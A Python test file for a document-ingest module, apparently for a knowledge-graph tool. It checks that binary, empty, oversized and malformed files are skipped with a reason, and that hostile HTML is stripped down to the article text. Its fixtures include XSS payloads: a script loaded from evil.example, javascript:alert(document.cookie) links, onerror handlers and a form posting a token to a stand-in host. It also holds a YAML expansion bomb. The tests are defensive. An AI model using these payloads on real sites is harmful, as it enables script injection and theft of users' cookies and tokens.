"""Bad input: every unusable file comes back as Skipped with a one-line reason; nothing raises."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from kg.ingest import discover, read_document
from kg.normalize import normalize
from kg.records import RawDocument, Skipped

ARTICLE = "据外交部网站消息，王毅星期天（4月21日）在金边同宋金达举行会谈。双方同意共同打击网赌电诈。\n"


def skipped(path: Path, **kwargs: int) -> Skipped:
    result = read_document(path, **kwargs)
    assert isinstance(result, Skipped), result
    assert result.path == str(path)
    assert result.reason and "\n" not in result.reason
    return result


def write(tmp_path: Path, name: str, data: bytes | str) -> Path:
    path = tmp_path / name
    if isinstance(data, str):
        path.write_text(data, encoding="utf-8")
    else:
        path.write_bytes(data)
    return path


@pytest.mark.parametrize(
    ("name", "data", "expected"),
    [
        ("photo.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "binary file: a PNG image"),
        ("report.md", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "binary file: a PDF document"),
        ("blob.txt", os.urandom(64) + b"\x00" + os.urandom(64), "binary file: contains NUL bytes"),
        ("empty.md", b"", "empty file"),
        ("blank.txt", b"  \n\t\r\n  \n", "only whitespace"),
        ("blank-bom.txt", "\ufeff \n\u3000\n".encode(), "only whitespace"),
    ],
)
def test_files_without_text_are_skipped_with_their_reason(
    tmp_path: Path, name: str, data: bytes, expected: str
):
    assert expected in skipped(write(tmp_path, name, data)).reason


def test_undecodable_bytes_are_skipped(tmp_path: Path):
    noise = bytes(b for b in range(0x80, 0x100)) * 40  # high bytes in no sensible order, no NUL
    reason = skipped(write(tmp_path, "noise.txt", noise)).reason
    assert reason.startswith("undecodable bytes")


def test_front_matter_that_never_closes_is_skipped(tmp_path: Path):
    path = write(tmp_path, "post.md", "---\ntitle: 王毅同宋金达会谈\ndate: 2024-04-21\n\n" + ARTICLE)
    reason = skipped(path).reason
    assert reason.startswith("broken front matter")
    assert "never closed" in reason


def test_front_matter_values_that_are_not_scalars_are_ignored_not_expanded(tmp_path: Path):
    bomb = "---\na: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
    bomb += "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\ntitle: *c\n---\n" + ARTICLE
    raw = read_document(write(tmp_path, "bomb.md", bomb))
    assert isinstance(raw, RawDocument)
    assert raw.title is None
    assert raw.text == ARTICLE.strip()


def test_a_50_mb_file_is_refused_by_its_size(tmp_path: Path):
    path = tmp_path / "huge.txt"
    with path.open("wb") as handle:  # sparse: 50 MB on paper, nothing on disk
        handle.truncate(50_000_000)
    reason = skipped(path).reason
    # a file that had been read would be refused as binary (it is all NUL bytes): the size decided
    assert reason == "too large: 50.0 MB, over the 20.0 MB limit"


def test_the_size_limit_can_be_set(tmp_path: Path):
    path = write(tmp_path, "a.txt", ARTICLE * 10)
    assert skipped(path, max_bytes=100).reason.startswith("too large")
    assert isinstance(read_document(path, max_bytes=10_000), RawDocument)


HOSTILE = """<html><head><script src="https://evil.example/x.js"></script>
<script>document.write("<p>injected paragraph</p>")</script>
<style>body { background: url(javascript:alert(1)) }</style></head>
<body onload="steal()">
<p onclick="alert('clicked')" style="color:red">王毅同宋金达举行会谈。</p>
<a href="javascript:alert(document.cookie)">双方同意共同打击网赌电诈。</a>
<img src=x onerror="alert('img')">
<iframe src="https://evil.example/frame"><p>frame text</p></iframe>
<noscript><p>enable javascript</p></noscript>
<div style="display:none">hidden payload</div>
<svg><script>alert('svg')</script></svg>
<object data="evil.swf">flash fallback</object>
<p>最后一段<script>alert('inline')</script>结束。</p>
<form action="https://evil.example/post"><input value="token">submit here</form>
</body></html>"""


@pytest.mark.parametrize("suffix", [".html", ".htm", ".md", ".txt"])
def test_hostile_html_leaves_only_the_article_text(tmp_path: Path, suffix: str):
    raw = read_document(write(tmp_path, f"hostile{suffix}", HOSTILE))
    assert isinstance(raw, RawDocument), raw
    assert raw.text.split("\n") == ["王毅同宋金达举行会谈。", "双方同意共同打击网赌电诈。", "最后一段结束。"]
    for trace in ("alert", "javascript", "evil", "steal", "injected", "onerror", "cookie", "hidden", "token"):
        assert trace not in raw.text
    assert normalize(raw).sentences


def test_html_with_only_scripts_and_navigation_is_skipped(tmp_path: Path):
    page = (
        "<html><body><nav>首页 国际</nav><script>var a = '文章';</script><footer>版权</footer></body></html>"
    )
    reason = skipped(write(tmp_path, "empty.html", page)).reason
    assert reason == "the HTML holds no article text (only markup, scripts or navigation)"


def test_markdown_with_only_images_is_skipped(tmp_path: Path):
    path = write(tmp_path, "pics.md", "![](https://x.org/a.jpg)\n\n![photo](https://x.org/b.jpg)\n")
    assert skipped(path).reason == "no article text left after removing markup"


def test_a_folder_with_other_files_reports_them_and_keeps_the_articles(tmp_path: Path):
    write(tmp_path, "article.md", ARTICLE)
    write(tmp_path, "photo.png", b"\x89PNG\r\n\x1a\n")
    write(tmp_path, "paper.pdf", b"%PDF-1.4")
    write(tmp_path, "notes", "no suffix")
    write(tmp_path, "broken.txt", b"\x00\x01\x02")
    paths, passed_over = discover([tmp_path])
    assert [p.name for p in paths] == ["article.md", "broken.txt"]
    reasons = {Path(s.path).name: s.reason for s in passed_over}
    assert set(reasons) == {"photo.png", "paper.pdf", "notes"}
    assert "'.png'" in reasons["photo.png"] and "'.pdf'" in reasons["paper.pdf"]
    assert "no suffix" in reasons["notes"]
    results = [read_document(p) for p in paths]
    assert isinstance(results[0], RawDocument)
    assert isinstance(results[1], Skipped) and "binary" in results[1].reason


def test_paths_that_are_not_files(tmp_path: Path):
    assert skipped(tmp_path).reason == "not a regular file"
    assert skipped(tmp_path / "gone.md").reason == "no such file"


@pytest.mark.parametrize(
    "text",
    [
        "<" * 5000 + ">" * 5000,
        "<div>" * 3000 + "王毅同宋金达举行会谈。" + "</div>" * 3000,
        "[[[[((((" * 2000 + "王毅同宋金达举行会谈。",
        "**" * 5000 + "王毅" + "__" * 5000,
        "王毅" * 200_000,
        "---\n---\n" + ARTICLE,
        "---\ntitle: [unclosed\n---\n" + ARTICLE,
        "<p>" + "&#0;&#xD800;&#x110000;&amp;&bogus;" * 100 + "王毅同宋金达举行会谈。</p>",
        "(wù)" * 1000 + "國(" + "a" * 5000 + ")",
    ],
    ids=[
        "angles",
        "deep-nesting",
        "brackets",
        "emphasis",
        "one-long-line",
        "empty-front-matter",
        "bad-yaml",
        "bad-entities",
        "parens",
    ],
)
def test_malformed_input_never_raises(tmp_path: Path, text: str):
    result = read_document(write(tmp_path, "odd.md", text))
    assert isinstance(result, RawDocument | Skipped)
    if isinstance(result, RawDocument):
        doc = normalize(result)
        assert all(doc.text[s.start : s.end] == s.text for s in doc.sentences)
        assert len(doc.simplified) == len(doc.text)


def test_scripts_and_javascript_links_inside_markdown_are_dropped(tmp_path: Path):
    post = (
        "---\ntitle: 会谈\n---\n\n# 王毅同宋金达举行会谈\n\n<script>alert('md')</script>\n\n"
        "双方同意[共同打击网赌电诈](javascript:alert(document.cookie))。<img src=x onerror=alert(2)>\n\n"
        '<p onmouseover="alert(3)">最后一段。</p>\n'
    )
    raw = read_document(write(tmp_path, "post.md", post))
    assert isinstance(raw, RawDocument), raw
    assert raw.text.split("\n") == ["王毅同宋金达举行会谈", "双方同意共同打击网赌电诈。", "最后一段。"]
